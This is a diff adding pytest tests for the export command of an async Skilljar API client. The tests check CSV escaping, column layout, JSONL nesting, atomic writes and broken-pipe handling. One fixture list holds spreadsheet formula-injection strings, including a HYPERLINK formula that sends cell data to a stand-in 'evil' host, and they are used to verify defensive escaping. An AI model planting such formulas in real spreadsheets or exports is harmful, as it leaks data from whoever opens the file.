@@ -3,18 +3,24 @@
 from __future__ import annotations
 
 import asyncio
+import csv
 import datetime as dt
+import io
 import json
 import os
+import signal
 import stat
+import subprocess
+import sys
 import threading
-from collections.abc import Iterator
+from collections.abc import AsyncIterator, Iterator
 from pathlib import Path
 from typing import Any
 
 import pytest
 
 from skilljar_async import SkilljarClient, cli
+from skilljar_async._convert import structure
 from skilljar_async._files import UnsafePathError, atomic_file
 from skilljar_async.bulk import (
     CsvError,
@@ -24,6 +30,8 @@ from skilljar_async.bulk import (
     read_rows,
     update_enrollments,
 )
+from skilljar_async.cli._export import write_export
+from skilljar_async.models import DomainUser
 from skilljar_async.reports import StateFileError
 from skilljar_async.reports._state import ReportState, write_state
 from skilljar_async.testing import SkilljarEmulator
@@ -248,3 +256,118 @@ def test_cli_stops_a_malformed_csv_before_the_first_call(
     assert "field larger than field limit" in err
     assert "Traceback" not in err
     assert served.requests == []
+
+
+# -- exports -----------------------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil/?"&A2,"x")', "@SUM(1)", "+1-2", "-cmd", "\tx", "\rx"]
+
+
+def _export(emu: SkilljarEmulator, out: Path, *options: str) -> int:
+    return cli.main(["--base-url", emu.base_url, "export", "users", "--out", str(out), *options])
+
+
+def _add_learners(emu: SkilljarEmulator, names: list[str]) -> None:
+    async def add() -> None:
+        async with SkilljarClient(emu.api_key, base_url=emu.base_url) as client:
+            for i, name in enumerate(names):
+                email = f"formula{i}@example.org"
+                await client.domains.users.create(DOMAIN, email=email, first_name=name)
+
+    asyncio.run(add())
+
+
+def test_csv_export_neutralises_formula_cells(
+    served: SkilljarEmulator, api_key: str, tmp_path: Path
+) -> None:
+    """CSV export neutralises formula cells (a quote before = + - @ tab CR); --raw keeps them."""
+    _add_learners(served, FORMULAS)
+    out = tmp_path / "users.csv"
+    assert _export(served, out, "--format", "csv") == 0
+    with out.open(newline="") as handle:
+        names = {row["user.first_name"] for row in csv.DictReader(handle)}
+    assert {"'" + name for name in FORMULAS} <= names
+    assert not names & set(FORMULAS)
+    assert _export(served, out, "--format", "csv", "--raw") == 0
+    with out.open(newline="") as handle:
+        names = {row["user.first_name"] for row in csv.DictReader(handle)}
+    assert set(FORMULAS) <= names
+
+
+async def _models(payloads: list[dict[str, Any]]) -> AsyncIterator[DomainUser]:
+    for payload in payloads:
+        yield structure(payload, DomainUser)
+
+
+async def test_csv_export_columns_come_from_the_schema() -> None:
+    """CSV export silently drops data: columns come from the schema; unknown fields go to extra."""
+    payloads = [
+        {"user": {"id": "u1", "email": "a@example.org"}, "access_code": None},
+        {
+            "user": {"id": "u2", "email": "b@example.org", "nickname": "bee"},
+            "access_code": {"id": "ac1", "code": "JOIN"},
+            "loyalty_tier": "gold",
+        },
+    ]
+    out = io.StringIO()
+    assert await write_export(_models(payloads), out, "csv", DomainUser) == 2
+    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert rows[0]["access_code.id"] == ""
+    assert (rows[1]["access_code.id"], rows[1]["access_code.code"]) == ("ac1", "JOIN")
+    assert "access_code.pool.name" in rows[0]
+    assert json.loads(rows[1]["extra"]) == {"loyalty_tier": "gold", "user.nickname": "bee"}
+    assert rows[0]["extra"] == ""
+    assert rows[0]["signup_fields"] == "[]"
+
+
+async def test_jsonl_export_keeps_the_api_nesting() -> None:
+    """JSON-lines export is flattened: each line is the record as the API nests it."""
+    payload = {
+        "user": {"id": "u1", "email": "a@example.org"},
+        "signup_fields": [],
+        "access_code": {"id": "ac1", "code": "=1+1"},
+    }
+    out = io.StringIO()
+    await write_export(_models([payload]), out, "jsonl", DomainUser)
+    record = json.loads(out.getvalue())
+    assert record["user"]["email"] == "a@example.org"
+    assert record["signup_fields"] == []
+    assert record["access_code"]["code"] == "=1+1"  # JSON is data for programs: left as is
+    assert "user.email" not in record
+
+
+def test_export_out_keeps_the_earlier_file_until_complete(
+    served: SkilljarEmulator, api_key: str, tmp_path: Path
+) -> None:
+    """--out truncates an earlier export: a failed export keeps the old file; a new one is 0600."""
+    out = tmp_path / "users.jsonl"
+    out.write_text("earlier export\n")
+    served.state.api_keys = frozenset()  # every call now fails with 401
+    assert _export(served, out) == 2
+    assert out.read_text() == "earlier export\n"
+    assert os.listdir(tmp_path) == ["users.jsonl"]
+    served.state.api_keys = frozenset({served.api_key})
+    assert _export(served, out) == 0
+    assert len(out.read_text().splitlines()) == 20
+    assert _mode(out) == 0o600
+    link = tmp_path / "link.jsonl"
+    link.symlink_to(out)
+    assert _export(served, link) == 2
+    assert link.is_symlink()
+
+
+def test_export_into_a_closed_pipe_exits_quietly(served: SkilljarEmulator, api_key: str) -> None:
+    """`export … | head` ends in a BrokenPipeError traceback: it exits quietly instead."""
+    _add_learners(served, [f"learner{i}" for i in range(300)])
+    command = [sys.executable, "-m", "skilljar_async", "--base-url", served.base_url,
+               "export", "users", "--format", "csv"]  # fmt: skip
+    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as child:
+        assert child.stdout is not None
+        assert child.stderr is not None
+        child.stdout.readline()
+        child.stdout.close()  # like `head -1` exiting
+        err = child.stderr.read()
+        status = child.wait(timeout=60)
+    assert b"Traceback" not in err
+    assert b"BrokenPipe" not in err
+    assert status == 128 + signal.SIGPIPE
